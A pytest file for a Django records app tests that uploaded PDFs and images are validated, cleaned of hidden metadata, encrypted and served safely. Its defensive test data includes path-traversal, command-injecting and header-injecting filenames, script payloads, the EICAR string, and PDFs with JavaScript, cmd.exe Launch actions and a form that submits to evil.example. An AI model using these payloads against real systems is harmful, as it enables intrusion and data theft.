"""Files about a person: what is stored is what it says it is, and nothing more."""

import io
import zipfile
import zlib
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader
from pypdf.actions import JavaScript
from pypdf.errors import PdfReadError
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NullObject, TextStringObject

from audit.models import Event
from config import clock
from config.errors import Refused
from records.actions.documents import store
from records.files import check_file
from records.models import Document, Review
from records.models.document import MAX_BYTES
from tests.factories.files import make_pdf
from tests.factories.records import make_person

PDF = make_pdf()
NAMES = (
    "../../etc/passwd",
    "x;touch pwned.pdf",
    'a"\r\nSet-Cookie: x=1.pdf',
    "Jordan Lee.pdf",
    "x" * 300,
    ".htaccess",
)


def picture(kind="JPEG", mode="RGB", size=(40, 20), **options):
    out = io.BytesIO()
    Image.new(mode, size, 128 if mode in ("L", "1") else None).save(out, kind, **options)
    return out.getvalue()


def with_place():
    """A photo that says where it was taken, who made it, and that it lies on its side."""
    exif = Image.Exif()
    exif[0x010E] = "Bluebird Lane 5"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[2] = (37.0, 32.0, 1.0)
    return picture(exif=exif, comment=b"Bluebird")


def zipped():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return out.getvalue()


@pytest.mark.parametrize(
    "data,media_type",
    [(PDF, "application/pdf"), (picture(), "image/jpeg"), (picture("PNG"), "image/png"),
     (picture("PNG", "P"), "image/png"), (picture("JPEG", "L"), "image/jpeg"),
     (picture("JPEG", "CMYK"), "image/jpeg")],
)  # fmt: skip
def test_the_three_types(data, media_type):
    assert check_file(data).media_type == media_type


REFUSED = {
    "html": (b"<!doctype html><script>alert(1)</script>", "file_type"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "file_type"),
    "gif": (picture("GIF", "L"), "file_type"),
    "zip": (zipped(), "file_type"),
    "text": (b"just words", "file_type"),
    "program": (b"\x7fELF" + b"\x00" * 60, "file_type"),
    "empty": (b"", "file_empty"),
    "html before a pdf": (b"<script>alert(1)</script>" + PDF, "file_type"),
    "zip behind a pdf": (PDF + zipped(), "file_damaged"),
    "half a pdf": (PDF[:30], "file_damaged"),
    "html inside a pdf's shell": (
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n",
        "file_damaged",
    ),
    "no pages": (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "file_damaged",
    ),
    "a virus test": (rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "file_type"),
    "locked": (make_pdf(change=lambda writer: writer.encrypt("secret")), "pdf_locked"),
    "too many pages": (make_pdf(pages=501), "pdf_long"),
    "half a picture": (picture(size=(400, 400))[:200], "file_damaged"),
    "png by its first bytes only": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "file_damaged"),
    "11 MB": (b"%PDF-1.4\n" + b"0" * (11 * 1024 * 1024), "file_large"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_refused(name):
    data, code = REFUSED[name]
    with pytest.raises(Refused) as refused:
        check_file(data)
    assert refused.value.code == code


def test_a_picture_too_large_to_draw(monkeypatch):
    monkeypatch.setattr("records.files.MOST_PIXELS", 100)
    with pytest.raises(Refused) as refused:
        check_file(picture())
    assert refused.value.code == "picture_large"


def test_what_hides_in_a_picture_is_gone():
    data = with_place()
    assert b"Bluebird" in data
    kept = check_file(data).content
    assert b"Bluebird" not in kept
    with Image.open(io.BytesIO(kept)) as again:
        assert not dict(again.getexif()) and "comment" not in again.info
        assert again.size == (20, 40), "turned upright"


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_what_is_glued_behind_a_picture_is_gone(kind):
    kept = check_file(picture(kind) + zipped() + b"<script>").content
    assert b"PK" not in kept and b"<script>" not in kept


def in_page(writer, **entries):
    """Put an annotation with an action or content into the first page."""
    found = DictionaryObject(
        {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link")}
    )
    for name, value in entries.items():
        found[NameObject(f"/{name}")] = value
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(found)])


def action(kind, **entries):
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for name, value in entries.items():
        made[NameObject(f"/{name}")] = TextStringObject(value)
    return made


def opens_with(writer, made):
    writer.root_object[NameObject("/OpenAction")] = made


ACTIVE = {
    "script when opened": lambda w: opens_with(w, action("/JavaScript", JS="app.alert(1)")),
    "script by name": lambda w: w.add_open_action(JavaScript("app.alert(1)")),
    "program": lambda w: opens_with(w, action("/Launch", F="cmd.exe")),
    "program behind a link": lambda w: in_page(w, A=action("/Launch", F="cmd.exe")),
    "form that sends": lambda w: in_page(w, A=action("/SubmitForm", F="https://evil.example")),
    "another file": lambda w: in_page(w, A=action("/GoToR", F="other.pdf")),
    "script in a page": lambda w: w.pages[0].update(
        {NameObject("/AA"): DictionaryObject({NameObject("/O"): action("/JavaScript", JS="x")})}
    ),
    "file within": lambda w: w.add_attachment("evil.exe", b"MZ"),
    "file on a page": lambda w: in_page(w, Subtype=NameObject("/FileAttachment")),
    "media": lambda w: in_page(w, Subtype=NameObject("/RichMedia")),
    "XFA": lambda w: w.root_object.update(
        {NameObject("/AcroForm"): DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})}
    ),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_a_pdf_that_acts_is_refused_with_a_way_out(name):
    with pytest.raises(Refused) as refused:
        check_file(make_pdf(change=ACTIVE[name]))
    assert refused.value.code == "pdf_active"
    assert "Print it to a new PDF" in refused.value.message


def test_what_acts_is_found_in_compressed_objects_too():
    plain = make_pdf(change=ACTIVE["script when opened"])
    packed = packed_in_object_streams(plain)
    assert b"/JavaScript" in plain and b"/JavaScript" not in packed and b"/ObjStm" in packed
    with pytest.raises(Refused) as refused:
        check_file(packed)
    assert refused.value.code == "pdf_active"


def packed_in_object_streams(data):
    """Return the same PDF with every object in one compressed stream, as current writers make them."""
    reader = PdfReader(io.BytesIO(data))
    objects = {}
    for number in range(1, int(reader.trailer["/Size"])):
        try:
            found = reader.get_object(number)
        except PdfReadError:
            continue
        if found is not None and not isinstance(found, NullObject):
            out = io.BytesIO()
            found.write_to_stream(out)
            objects[number] = out.getvalue()
    places, body = [], b""
    for number, written in objects.items():
        places.append(f"{number} {len(body)}")
        body += written + b"\n"
    head = " ".join(places).encode() + b"\n"
    stream = zlib.compress(head + body)
    holder, index = max(objects) + 1, max(objects) + 2
    out = b"%PDF-1.5\n"
    at = len(out)
    out += (
        (
            f"{holder} 0 obj\n<</Type/ObjStm/N {len(objects)}/First {len(head)}/Filter/FlateDecode"
            f"/Length {len(stream)}>>\nstream\n"
        ).encode()
        + stream
        + b"\nendstream\nendobj\n"
    )
    entries = b"\x00\x00\x00\x00\xff"
    order = list(objects)
    for number in range(1, index):
        if number in objects:
            entries += b"\x02" + holder.to_bytes(3, "big") + bytes([order.index(number)])
        elif number == holder:
            entries += b"\x01" + at.to_bytes(3, "big") + b"\x00"
        else:
            entries += b"\x00\x00\x00\x00\x00"
    start = len(out)
    entries += b"\x01" + start.to_bytes(3, "big") + b"\x00"
    packed = zlib.compress(entries)
    root = reader.trailer.raw_get("/Root").idnum
    out += (
        (
            f"{index} 0 obj\n<</Type/XRef/W[1 3 1]/Size {index + 1}/Root {root} 0 R/Filter/FlateDecode"
            f"/Length {len(packed)}>>\nstream\n"
        ).encode()
        + packed
        + b"\nendstream\nendobj\n"
    )
    return out + f"startxref\n{start}\n%%EOF\n".encode()


def test_a_pdf_in_compressed_objects_is_taken():
    assert check_file(packed_in_object_streams(make_pdf(pages=2))).media_type == "application/pdf"


def test_what_hides_in_a_pdf_is_gone_and_its_pages_stay():
    def hide(writer):
        writer._add_object(TextStringObject("Bluebird left over"))
        aside = DictionaryObject({NameObject("/X"): TextStringObject("Bluebird")})
        writer.pages[0][NameObject("/PieceInfo")] = aside
        in_page(writer, A=action("/URI", URI="https://www.example.org/"))

    data = make_pdf(pages=3, title="Bluebird Lane", change=hide)
    assert data.count(b"Bluebird") >= 4
    kept = check_file(data).content
    assert b"Bluebird" not in kept
    pages = PdfReader(io.BytesIO(kept)).pages
    assert len(pages) == 3
    (mark,) = pages[0]["/Annots"]
    assert "example.org" in mark.get_object()["/A"]["/URI"], "an ordinary link stays"


def test_a_file_that_keeps_the_checker_busy_is_given_up(monkeypatch):
    monkeypatch.setattr("records.files.PDF_SECONDS", 0.01)
    with pytest.raises(Refused) as refused:
        check_file(PDF)
    assert refused.value.code == "pdf_long"


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_drawn():
    """A file of a few kilobytes that would fill the memory."""
    width = (50_000).to_bytes(4, "big")
    header = b"IHDR" + width + width + b"\x08\x02\x00\x00\x00"
    data = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0d" + header + zlib.crc32(header).to_bytes(4, "big")
    data += b"\x00\x00\x00\x00IEND\xaeB`\x82"
    with pytest.raises(Refused) as refused:
        check_file(data)
    assert refused.value.code in ("picture_large", "file_damaged")


@pytest.fixture
def person(ana):
    return make_person(ana)


def upload(data, name="scan.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


@pytest.mark.django_db
def test_stored_encrypted_and_downloaded_safely(ana, person, as_user):
    data = make_pdf(change=lambda writer: in_page(writer, Contents=TextStringObject("Jordan Lee")))
    document = store(person=person, by=ana, upload=upload(data, "Jordan Lee.pdf"), kind="clearance")
    with connection.cursor() as cursor:
        cursor.execute("SELECT t::text FROM records_document t")
        assert b"Jordan".hex() not in cursor.fetchone()[0]
    page = as_user(ana).get(reverse("records:document-download", args=[document.pk]))
    assert b"Jordan Lee" in page.content
    assert page.headers["Content-Type"] == "application/pdf"
    assert page.headers["Content-Disposition"].startswith('attachment; filename="document-')
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    assert page.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert page.headers["Cache-Control"] == "no-store, private"
    assert Event.objects.filter(name="record.viewed", object_id=document.pk).count() == 1


@pytest.mark.django_db
def test_who_may_not_open_it(ana, ben, person, as_user, pia, audrey, ada):
    document = store(person=person, by=ana, upload=upload(PDF), kind="other")
    for user in (pia, audrey, ada):
        assert as_user(user).get(reverse("records:document-download", args=[document.pk])).status_code == 403
    hidden = make_person(ben, "Riley Park")
    secret = store(person=hidden, by=ben, upload=upload(PDF), kind="other")
    assert as_user(ana).get(reverse("records:document-download", args=[secret.pk])).status_code == 404


@pytest.mark.django_db
def test_the_page_stores_and_refuses(ana, person, as_user):
    client, url = as_user(ana), reverse("records:document-list", args=[person.pk])
    assert "No file is stored" in client.get(url).content.decode()
    assert client.post(url, {"kind": "clearance", "file": upload(PDF)}).status_code == 302
    assert Document.objects.get().size == len(check_file(PDF).content)
    cases = [
        ({"kind": "clearance"}, "Choose a file"),
        ({"file": upload(PDF)}, "Select what this file is"),
        ({"kind": "clearance", "file": upload(b"<script>")}, "Choose a PDF, JPEG or PNG file"),
        ({"kind": "clearance", "file": upload(PDF[:-6] + b"0" * MAX_BYTES + b"%%EOF")}, "10 MB or smaller"),
        ({"kind": "clearance", "file": upload(b"%PDF-1.4" + b"0" * 12 * 1024 * 1024)}, "10 MB or smaller"),
    ]
    for data, words in cases:
        page = client.post(url, data)
        assert page.status_code == 422 and words in page.content.decode()
    assert Document.objects.count() == 1


@pytest.mark.django_db
def test_sending_a_file_twice_stores_it_once(ana, person, as_user):
    client, url = as_user(ana), reverse("records:document-list", args=[person.pk])
    key = "6f1c1f9e-8f5e-4b1c-9a53-2f6a3cf0a001"
    for _twice in range(2):
        page = client.post(url, {"kind": "other", "file": upload(PDF), "submit_key": key})
        assert page.url == url
    assert Document.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("name", NAMES)
def test_a_files_name_is_neither_kept_nor_used(ana, person, as_user, name):
    document = store(person=person, by=ana, upload=upload(PDF, name), kind="other")
    page = as_user(ana).get(reverse("records:document-download", args=[document.pk]))
    assert page.headers["Content-Disposition"] == f'attachment; filename="document-{document.pk.hex[:8]}.pdf"'
    with connection.cursor() as cursor:
        cursor.execute("SELECT t::text FROM records_document t")
        assert name not in cursor.fetchone()[0]


@pytest.mark.django_db
@pytest.mark.parametrize("column", ["content", "sha256"])
def test_a_flipped_byte_is_not_opened_and_is_reported(ana, person, as_user, column):
    document = store(person=person, by=ana, upload=upload(PDF), kind="other")
    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE records_document SET {column} = set_byte({column}, 60, get_byte({column}, 60) # 1)"
        )
    url = reverse("records:document-download", args=[document.pk])
    for _twice in range(2):
        page = as_user(ana).get(url)
        assert page.status_code == 409
        assert b"%PDF" not in page.content and b"not what was stored" in page.content
    assert Event.objects.filter(name="document.altered", object_id=document.pk).count() == 2
    assert Review.objects.get().object_id == document.pk, "one alert, however often somebody tries"


@pytest.mark.django_db
def test_one_person_stores_so_much_a_day(ana, ben, person, settings):
    settings.UPLOAD_MEGABYTES_PER_DAY = 1
    big = picture("PNG", size=(10, 10))
    first = store(person=person, by=ana, upload=upload(big), kind="other")
    settings.UPLOAD_MEGABYTES_PER_DAY = 1.5 * first.size / 1024 / 1024
    with pytest.raises(Refused) as refused:
        store(person=person, by=ana, upload=upload(big), kind="other")
    assert refused.value.code == "file_quota"
    assert store(person=person, by=ben, upload=upload(big), kind="other")
    Document.objects.filter(pk=first.pk).update(uploaded_at=clock.now() - timedelta(days=2))
    assert store(person=person, by=ana, upload=upload(big), kind="other")
